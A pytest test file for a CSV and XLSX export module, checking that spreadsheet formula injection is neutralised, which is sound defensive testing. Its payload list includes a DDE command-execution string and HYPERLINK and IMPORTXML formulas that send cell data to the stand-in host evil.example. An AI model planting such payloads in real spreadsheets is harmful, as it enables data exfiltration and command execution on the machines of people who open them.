"""No cell of an export becomes a formula, in any spreadsheet that we know how to trick."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from itertools import repeat

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from config.kernel.tables import guarded, write_csv, write_xlsx

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹣1",
    "﹦1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "|cmd",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"see")',
    '=IMPORTXML("http://evil.example","//a")',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_csv(formula: str) -> None:
    (_, (cell,)) = read(write_csv(["name"], [[formula]]))
    assert cell.startswith("'")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_a_text_cell_in_xlsx(formula: str) -> None:
    sheet = load_workbook(io.BytesIO(write_xlsx([formula], [[formula]]))).active
    assert sheet is not None
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"


@pytest.mark.parametrize("text", ["Harbour", "a=b", "5 - 3", "", "é", "'quoted", '"', "#N/A"])
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text
    (_, (cell,)) = read(write_csv(["name"], [[text]]))
    assert cell == text


def test_a_cell_cannot_break_out_of_its_place() -> None:
    """Spreadsheets of other languages split at semicolons: every text is quoted."""
    (_, line) = list(write_csv(["a", "b"], [["x;=1+1", 'y","=1+1\r\n=2']]))
    assert line.startswith('"x;=1+1",')
    assert read(iter([line])) == [["x;=1+1", 'y","=1+1\r\n=2']]


def test_numbers_stay_numbers_and_the_rest_is_readable() -> None:
    moment = datetime(2026, 11, 21, 10, tzinfo=UTC)
    row = [-5, 2.5, Decimal("-1.10"), None, True, moment, ["a", "b"]]
    (_, line) = list(write_csv(list("abcdefg"), [row]))
    assert line == '-5,2.5,-1.10,"","yes","2026-11-21T10:00:00+00:00","a, b"\r\n'
    sheet = load_workbook(io.BytesIO(write_xlsx(list("abcdefg"), [row]))).active
    assert sheet is not None
    assert [cell.data_type for cell in sheet[2]][:3] == ["n", "n", "n"]


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="2 columns"):
        list(write_csv(["a", "b"], [["x"]]))
    with pytest.raises(ValueError, match="2 columns"):
        write_xlsx(["a", "b"], [["x"]])


def test_csv_is_written_line_by_line() -> None:
    lines = write_csv(["a"], repeat(["x"]))
    assert [next(lines) for _ in range(3)] == ['"a"\r\n', '"x"\r\n', '"x"\r\n']


@given(st.text(max_size=200))
def test_any_text_can_be_written_and_none_runs(text: str) -> None:
    (_, (cell,)) = read(write_csv(["name"], [[text]]))
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    sheet = load_workbook(io.BytesIO(write_xlsx(["name"], [[text]]))).active
    assert sheet is not None
    assert sheet["A2"].data_type in {"s", "n", "inlineStr"}
    assert sheet["A2"].value is None or isinstance(sheet["A2"].value, str)


def read(lines: object) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines), newline="")))  # type: ignore[arg-type]
